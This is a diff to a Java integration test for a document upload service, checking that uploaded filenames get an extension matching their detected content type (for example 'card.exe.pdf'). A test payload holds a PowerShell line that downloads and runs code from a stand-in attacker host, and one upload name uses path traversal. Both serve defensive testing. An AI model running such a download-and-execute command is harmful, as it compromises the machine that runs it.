@@ -60,6 +60,8 @@ class DocumentsIT {
   int port;
   @Autowired
   ProcessEngine engine;
+  @Autowired
+  org.springframework.jdbc.core.JdbcTemplate jdbc;
   ApiClient alice;
   ApiClient bob;
   EngagementDriver government;
@@ -86,7 +88,7 @@ class DocumentsIT {
   void theDeveloperAttachesListsAndDownloadsItsDocuments() {
     String id = open("Card");
     byte[] card = MultipartBody.pdf("Model card of Roadrunner 4.1");
-    // the name says executable, the content says PDF: the content decides
+    // the name says executable, the content says PDF: the content decides, and the name served ends in .pdf
     HttpResponse<String> added = developerUpload(id, MultipartBody.upload("MODEL_CARD", "../../card.exe", card));
     assertThat(added.statusCode()).as(added.body()).isEqualTo(201);
     JsonNode document = json(added);
@@ -94,7 +96,7 @@ class DocumentsIT {
     assertThat(added.headers().firstValue("Location")).hasValue(BASE + "/" + id + "/documents/" + documentId);
     assertThat(document.get("kind").asText()).isEqualTo("MODEL_CARD");
     assertThat(document.get("mediaType").asText()).isEqualTo("application/pdf");
-    assertThat(document.get("filename").asText()).isEqualTo("card.exe");
+    assertThat(document.get("filename").asText()).isEqualTo("card.exe.pdf");
     assertThat(document.get("size").asLong()).isEqualTo(card.length);
     assertThat(document.get("sha256").asText()).isEqualTo(MultipartBody.sha256(card));
     assertThat(document.get("from").asText()).isEqualTo("DEVELOPER");
@@ -115,12 +117,12 @@ class DocumentsIT {
     assertThat(download.body()).isEqualTo(card);
     assertThat(download.headers().firstValue("Content-Type")).hasValue("application/pdf");
     assertThat(download.headers().firstValue("Content-Disposition")).get().asString()
-        .startsWith("attachment").contains("card.exe");
+        .startsWith("attachment").contains("card.exe.pdf");
     assertThat(download.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
     assertThat(download.headers().firstValue("Repr-Digest")).hasValue("sha-256=:" + Base64.getEncoder()
         .encodeToString(java.util.HexFormat.of().parseHex(MultipartBody.sha256(card))) + ":");
 
-    assertThat(timeline(id)).anySatisfy(event -> assertThat(event).contains("DOCUMENT_ADDED", "Model card: card.exe",
+    assertThat(timeline(id)).anySatisfy(event -> assertThat(event).contains("DOCUMENT_ADDED", "Model card: card.exe.pdf",
         MultipartBody.sha256(card)));
 
     // a name of any script is kept (at most 200 UTF-16 units) and served in ASCII and in UTF-8
@@ -132,7 +134,23 @@ class DocumentsIT {
         .headers().firstValue("Content-Disposition").orElseThrow();
     assertThat(disposition).startsWith("attachment; filename=\"__").contains("; filename*=UTF-8''%F0%9F%9A%80");
     assertThat(download(BASE + "/" + id + "/documents/" + documentId + "/content", "alice").headers()
-        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"card.exe\"");
+        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"card.exe.pdf\"");
+
+    // text named as a script: the reviewer's browser saved it as run.bat or review.hta, which ran when opened
+    // (Tika takes a file opening with "@echo off" for a batch file; one opening with a line of prose for text)
+    byte[] script = "Evaluation notes\r\npowershell -c \"iwr https://attacker.example/x | iex\"\r\n"
+        .getBytes(StandardCharsets.US_ASCII);
+    JsonNode bat = json(developerUpload(id, MultipartBody.upload("OTHER", "Evaluation-Report.bat", script)));
+    assertThat(bat.get("mediaType").asText()).isEqualTo("text/plain");
+    assertThat(bat.get("filename").asText()).isEqualTo("Evaluation-Report.bat.txt");
+    assertThat(download(BASE + "/" + id + "/documents/" + bat.get("id").asText() + "/content", "alice").headers()
+        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"Evaluation-Report.bat.txt\"");
+    // a name stored before is listed and served the same way
+    jdbc.update("UPDATE fe_document SET filename = ? WHERE id = ?", "review.hta", bat.get("id").asText());
+    assertThat(alice.get(BASE + "/" + id + "/documents/" + bat.get("id").asText()).json().get("filename").asText())
+        .isEqualTo("review.hta.txt");
+    assertThat(download(BASE + "/" + id + "/documents/" + bat.get("id").asText() + "/content", "alice").headers()
+        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"review.hta.txt\"");
   }
 
   @Test
